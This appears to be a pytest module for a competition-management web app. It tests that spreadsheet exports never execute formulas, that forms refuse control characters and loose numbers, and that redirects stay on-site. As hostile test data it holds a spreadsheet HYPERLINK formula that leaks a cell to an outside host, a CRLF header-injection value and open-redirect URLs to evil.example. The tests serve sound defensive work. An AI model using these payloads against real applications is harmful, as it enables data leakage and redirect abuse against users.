"""Issue 9 §4 and §7: exports that never break or execute, text refused or normalized on the way in, and
no input that produces a server error (numbers, ids, pages, dates, JSON, redirects).

Each test is one "Found:" instance of the issue, checked as a user would notice it.
"""
# ruff: noqa: F811 - the judging and results worlds are fixtures imported from their test modules

from __future__ import annotations

import inspect
import io
import unicodedata
import uuid
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select

import competitions
from competitions.audit.models import AuditEntry
from competitions.extensions import db
from competitions.forms import Form, SubForm
from competitions.judging.models import Mark
from competitions.orgs.models import Worker
from competitions.registration.models import Registration
from competitions.spreadsheets import Book, csv_cell, xlsx_table
from tests import factories as f
from tests.web.test_judging import _post, w  # noqa: F401 - the judging world fixture
from tests.web.test_results import world  # noqa: F401 - the results world fixture

HYPERLINK = '=HYPERLINK("http://example.invalid/?x="&D2,"check")'


def _count(model, *where):
    return db.session.execute(select(func.count()).select_from(model).where(*where)).scalar_one()


def _cells(data: bytes):
    return [c for ws in load_workbook(io.BytesIO(data)).worksheets for row in ws.iter_rows() for c in row]


# ---- §4: the one spreadsheet writer ---------------------------------------------------------------

def test_writer_writes_formula_like_text_as_inert_text_and_keeps_number_places():
    data = xlsx_table("a/b[c]", ["Name", "Total"], [
        [HYPERLINK, Decimal("90.50")], ["+1", Decimal("3")], ["-2", 7], ["@SUM(A1)", None], ["\tx", 1.5],
        ["\rx", None], ["王\x0b强\x1b", None], ["\ud800", None], ["x" * 40000, None],
    ])
    cells = {c.coordinate: c for c in _cells(data)}
    for row, text in ((2, HYPERLINK), (3, "+1"), (4, "-2"), (5, "@SUM(A1)"), (6, "\tx")):
        cell = cells[f"A{row}"]
        assert cell.value == text and cell.data_type == "s" and cell.quotePrefix
    assert cells["B2"].value == 90.5 and cells["B2"].number_format == "0.00"   # shown as 90.50
    assert cells["B3"].number_format == "0"
    assert cells["A8"].value == "王\ufffd强\ufffd" and cells["A9"].value == "\ufffd"
    assert len(cells["A10"].value) == 32767
    assert "/" not in load_workbook(io.BytesIO(data)).sheetnames[0]
    assert csv_cell(HYPERLINK) == "'" + HYPERLINK and csv_cell("王强") == "王强"


def test_writer_with_no_sheet_still_makes_a_workbook_excel_opens():
    assert load_workbook(io.BytesIO(Book().to_bytes())).sheetnames == ["Sheet"]


def test_every_workbook_is_written_by_the_one_writer():
    """No export builds its own openpyxl Workbook: a new one must use competitions.spreadsheets."""
    root = inspect.getfile(competitions).rsplit("/", 1)[0]
    import pathlib

    offenders = [str(p) for p in pathlib.Path(root).rglob("*.py")
                 if p.name != "spreadsheets.py" and ("Workbook(" in p.read_text() or "import Workbook" in
                                                     p.read_text())]
    assert offenders == []


@pytest.fixture
def hostile(app):
    """An open competition whose entrants' names hold a control character and a formula."""
    orgs = f.org_tree()
    f.user("boss", "organizer", org=orgs["city"])
    comp, ev = f.open_competition(orgs["city"])
    for station, name in enumerate(("王\x0b强", "李\x1b娜", HYPERLINK), start=1):
        worker = f.worker(orgs["plant"], name=name)
        db.session.add(Registration(event_id=ev.id, worker_id=worker.id, status="approved", station=station,
                                    anonymous_code=f"A{station}", team_name="=1+1"))
    db.session.commit()
    return {"orgs": orgs, "comp": comp, "event": ev}


def test_registration_export_and_check_in_sheet_survive_control_characters_and_never_execute(hostile, client, auth):
    auth.login("boss")
    comp = hostile["comp"]
    export = client.get(f"/registration/manage/competitions/{comp.id}/export.xlsx")
    assert export.status_code == 200
    cells = _cells(export.data)
    assert not [c for c in cells if c.data_type == "f"]
    formula = [c for c in cells if c.value == HYPERLINK]
    assert formula and all(c.data_type == "s" and c.quotePrefix for c in formula)
    assert any(c.value == "王\ufffd强" for c in cells)
    checkin = client.get(f"/registration/manage/events/{hostile['event'].id}/checkin.xlsx")
    assert checkin.status_code == 200
    assert not [c for c in _cells(checkin.data) if c.data_type == "f"]


def test_audit_workbook_writes_formula_reason_as_text(w, client, auth):
    from competitions.audit.services import record

    record("mark.override", actor_id=w.chief.id, object_type="mark", object_id=1, competition_id=w.comp.id,
           reason=HYPERLINK)
    db.session.commit()
    auth.login("cityorg")
    response = client.get("/judging/audit.xlsx")
    cells = _cells(response.data)
    assert [c for c in cells if c.value == HYPERLINK][0].quotePrefix
    assert not [c for c in cells if c.data_type == "f"]


def test_results_workbook_keeps_two_decimals(world, client, auth):
    from tests.web.test_results import _compute

    f.sign_off(world["event"])
    db.session.commit()
    auth.login_as("cityorg")
    _compute(client, world["comp"])
    cells = _cells(client.get(f"/results/competitions/{world['comp'].id}/export.xlsx").data)
    totals = [c for c in cells if c.data_type == "n" and c.number_format == "0.00"]
    assert totals, "totals are numbers shown with two decimals"


# ---- §4: text on the way in -----------------------------------------------------------------------

def test_every_form_is_hardened():
    """Every form derives from competitions.forms.Form/SubForm (control characters, NFC, number and date rules)."""
    import importlib
    import pkgutil

    from flask_wtf import FlaskForm
    from wtforms import Form as WTForm

    for module in pkgutil.walk_packages(competitions.__path__, "competitions."):
        if module.name.endswith(".forms"):
            importlib.import_module(module.name)
    bare = []

    def walk(cls):
        for sub in cls.__subclasses__():
            if sub.__module__.startswith("competitions.") and sub not in (Form, SubForm) \
                    and not issubclass(sub, (Form, SubForm)):
                bare.append(f"{sub.__module__}.{sub.__name__}")
            walk(sub)

    walk(FlaskForm)
    walk(WTForm)
    assert bare == []


def test_form_refuses_a_control_character_naming_the_field_and_stores_nfc(app, client, auth):
    orgs = f.org_tree()
    f.user("root", "admin", org=orgs["city"])
    db.session.commit()
    auth.login("root")
    client.post("/lang", data={"lang": "en"})
    page = client.post("/orgs/new", data={"name": "机床\x1b厂", "kind": "enterprise",
                                          "parent_id": str(orgs["city"].id)}, follow_redirects=True)
    text = page.get_data(as_text=True)
    assert "Organization name contains a control character (U+001B)" in text
    decomposed = "Cafe\u0301 工会"
    client.post("/orgs/new", data={"name": decomposed, "kind": "enterprise", "parent_id": str(orgs["city"].id)})
    from competitions.orgs.models import Organization

    names = db.session.execute(select(Organization.name)).scalars().all()
    assert unicodedata.normalize("NFC", decomposed) in names and decomposed not in names


def test_self_registration_refuses_a_vertical_tab_in_the_name(app, client, auth):
    from tests.web.test_registration import _form

    orgs = f.org_tree()
    f.user("wang", "competitor", org=orgs["plant"])
    comp, ev = f.open_competition(orgs["city"])
    db.session.commit()
    auth.login("wang")
    client.post("/lang", data={"lang": "en"})
    page = client.post(f"/registration/events/{ev.id}/register", data=_form(orgs, name="王\x0b强"))
    assert "Full name contains a control character (U+000B)" in page.get_data(as_text=True)
    assert _count(Worker) == 0


def test_marks_api_refuses_control_characters_in_a_reason(w, client, auth):
    f.sign_off(w.ev, w.chief)
    db.session.commit()
    auth.login("chief")
    response = _post(client, w.a, w.crit["P1"], "30", judge_id=w.j_city.id, reason="录入错误\x1b更正")
    assert response.status_code == 422 and response.get_json()["field"] == "reason"


# ---- §7: numbers --------------------------------------------------------------------------------

@pytest.mark.parametrize("value", ["1e400", "9" * 60_000, 1e152, "1_0", "١٠", "Infinity", "NaN", "０x１０", "0x10",
                                   "３５。５。", "３ ５"])
def test_marks_api_refuses_loose_numbers(w, client, auth, value):
    auth.login("j_city")
    response = _post(client, w.a, w.crit["P1"], value)
    assert response.status_code == 422
    assert _count(Mark) == 0


@pytest.mark.parametrize("typed, stored", [("３５", "35"), ("４５．５", "45.5"), ("４５，５", "45.5"),
                                           ("４５。５", "45.5"), ("\u3000３０\u3000", "30")])
def test_marks_api_reads_full_width_digits_typed_with_a_chinese_input_method(w, client, auth, typed, stored):
    """review2 M8: a Chinese IME in full-width mode types ３５; the judge means 35 (never "not a number")."""
    auth.login("j_city")
    response = _post(client, w.a, w.crit["P1"], typed)
    assert response.status_code == 201, response.get_json()
    assert response.get_json()["mark"]["value"] == stored
    assert db.session.execute(select(Mark.value)).scalar_one() == Decimal(stored)


def test_marks_api_refuses_a_100000_digit_number_as_too_large(w, client, auth):
    auth.login("j_city")
    response = _post(client, w.a, w.crit["P1"], "9" * 100_000)
    assert response.status_code == 413 and response.is_json
    assert _count(Mark) == 0


def test_marks_api_refuses_a_number_literal_too_big_for_json(w, client, auth):
    auth.login("j_city")
    body = (f'{{"registration_id": {w.a.id}, "criterion_id": {w.crit["P1"].id}, "value": 1e400, '
            f'"idempotency_key": "{uuid.uuid4()}"}}')
    response = client.post("/api/v1/judging/marks", data=body, content_type="application/json")
    assert response.status_code == 422 and _count(Mark) == 0


def test_marks_api_ids_out_of_range_are_not_found_and_messages_are_filled_in(w, client, auth):
    auth.login("j_city")
    client.post("/lang", data={"lang": "en"})
    huge = client.post("/api/v1/judging/marks", json={"registration_id": 2**63, "criterion_id": w.crit["P1"].id,
                                                      "value": "3", "idempotency_key": str(uuid.uuid4())})
    assert huge.status_code == 404
    text = client.post("/api/v1/judging/marks", json={"registration_id": "abc", "criterion_id": w.crit["P1"].id,
                                                      "value": "3", "idempotency_key": str(uuid.uuid4())})
    assert text.status_code == 422
    message = text.get_json()["message"]
    assert "%(" not in message and "registration_id" in message


def test_ids_of_2_pow_63_in_urls_are_not_found(w, client, auth):
    auth.login("cityorg")
    for url in (f"/judging/events/{2**63}/chief", f"/results/competitions/{2**63}",
                f"/api/v1/results/events/{2**63}", f"/registration/competitions/{2**63}"):
        assert client.get(url).status_code == 404, url


def test_json_nested_5000_deep_is_a_400_not_a_500(w, client, auth):
    auth.login("j_city")
    response = client.post("/api/v1/judging/marks", data="[" * 5000 + "]" * 5000, content_type="application/json")
    assert response.status_code in (400, 422) and response.is_json


def test_json_body_is_bounded(w, client, auth):
    auth.login("j_city")
    response = client.post("/api/v1/judging/marks", json={"reason": "x" * 100_000})
    assert response.status_code == 413 and response.is_json


def test_chief_mark_form_refuses_1e400(w, client, auth):
    auth.login("chief")
    client.post("/lang", data={"lang": "en"})
    form = {"registration_id": w.a.id, "criterion_id": w.crit["P1"].id, "judge_id": w.j_city.id, "value": "1e400",
            "idempotency_key": str(uuid.uuid4())}
    page = client.post(f"/judging/events/{w.ev.id}/chief/mark", data=form, follow_redirects=True)
    assert page.status_code == 200 and "is not a number" in page.get_data(as_text=True)
    assert _count(Mark) == 0


@pytest.mark.parametrize(("mode", "amount"), [("points", "Infinity"), ("points", "1e400"), ("points", "9" * 30),
                                              ("points", "١"), ("percent", "1000")])
def test_outlier_threshold_refuses_infinity(w, client, auth, mode, amount):
    from competitions.judging.models import JudgingSetting

    auth.login("chief")
    response = client.post(f"/judging/events/{w.ev.id}/chief/threshold", data={"mode": mode, "amount": amount},
                           follow_redirects=True)
    assert response.status_code == 200 and _count(JudgingSetting) == 0


@pytest.mark.parametrize("data", [{"adj-time_used": "9999999999"}, {"adj-time_used": "١٢"},
                                  {"adj-deduction_points": "1e400", "adj-deduction_reason": "x"},
                                  {"adj-deduction_points": "9" * 100_000, "adj-deduction_reason": "x"},
                                  {"adj-registration_id": "abc"}])
def test_adjustments_refuse_loose_values(world, client, auth, data):
    from competitions.results.models import ResultAdjustment

    auth.login_as("chief")
    url = f"/results/events/{world['event'].id}/adjustments"
    form = {"adj-registration_id": str(world["regs"]["A02"].id), **data}
    response = client.post(url, data=form, follow_redirects=True)
    assert response.status_code == 200
    assert _count(ResultAdjustment) == 0


# ---- §7: pages, dates, redirects -----------------------------------------------------------------

def test_huge_page_numbers_are_page_one(w, client, auth):
    auth.login("cityorg")
    for url in ("/judging/audit", "/organize/competitions", f"/registration/manage/competitions/{w.comp.id}"):
        assert client.get(url + "?page=99999999999999999999").status_code == 200, url


@pytest.mark.parametrize("day", ["9999-12-31", "0001-01-01", "2026-02-30", "２０２６-01-01"])
def test_audit_filter_dates_out_of_range(w, client, auth, day):
    auth.login("cityorg")
    assert client.get(f"/judging/audit?since={day}&until={day}").status_code == 200
    assert client.get(f"/judging/audit.xlsx?since={day}&until={day}").status_code == 200


def test_competition_form_refuses_dates_outside_1900_2100(app, client, auth):
    orgs = f.org_tree()
    f.user("boss", "organizer", org=orgs["city"])
    db.session.commit()
    auth.login("boss")
    client.post("/lang", data={"lang": "en"})
    data = {"name": "测试", "year": "2026", "level": "city", "competition_class": "I", "kind": "skills",
            "organization_id": str(orgs["city"].id), "starts_on": "2026-12-15", "ends_on": "9999-12-31",
            "registration_opens_at": "0001-01-01T00:00", "registration_closes_at": "2026-12-01T00:00"}
    page = client.post("/organize/competitions/new", data=data)
    assert page.status_code == 200
    text = page.get_data(as_text=True)
    assert "Last day must be a date between 1900-01-01 and 2100-12-31" in text
    assert "Registration opens must be a date between" in text


def test_login_next_with_crlf_is_not_followed(app, client):
    orgs = f.org_tree()
    f.user("boss", "organizer", org=orgs["city"])
    db.session.commit()
    response = client.post("/auth/login?next=/%0d%0aSet-Cookie:%20x=1",
                           data={"username": "boss", "password": f.PASSWORD})
    assert response.status_code == 302 and "\n" not in response.headers["Location"]
    assert "Set-Cookie" not in response.headers["Location"]


def test_review_form_next_does_not_leave_the_site(hostile, client, auth):
    auth.login("boss")
    comp = hostile["comp"]
    reg = db.session.execute(select(Registration)).scalars().first()
    for evil in ("//evil.example/x", "https://evil.example/x", "/\\evil.example/x"):
        response = client.post(f"/registration/manage/competitions/{comp.id}/decide",
                               data={"ids": [str(reg.id), "1" * 30, "١"], "decision": "approve", "next": evil})
        assert response.status_code == 302
        assert "evil.example" not in response.headers["Location"]


def test_oversized_upload_gets_a_friendly_message(app_factory):
    app = app_factory(MAX_CONTENT_LENGTH=1024, UPLOAD_MAX_BYTES=1024)
    with app.app_context():
        orgs = f.org_tree()
        f.user("boss", "organizer", org=orgs["city"])
        comp, _ev = f.open_competition(orgs["city"])
        db.session.commit()
        client = app.test_client()
        client.post("/auth/login", data={"username": "boss", "password": f.PASSWORD})
        client.post("/lang", data={"lang": "en"})
        url = f"/registration/roster/competitions/{comp.id}"
        response = client.post(url, data={"file": (io.BytesIO(b"x" * 4096), "big.xlsx")},
                               headers={"Referer": "http://localhost" + url}, follow_redirects=True)
        text = response.get_data(as_text=True)
        assert response.status_code == 200 and "at most 1 MB can be uploaded" in text
        assert _count(AuditEntry) == 0
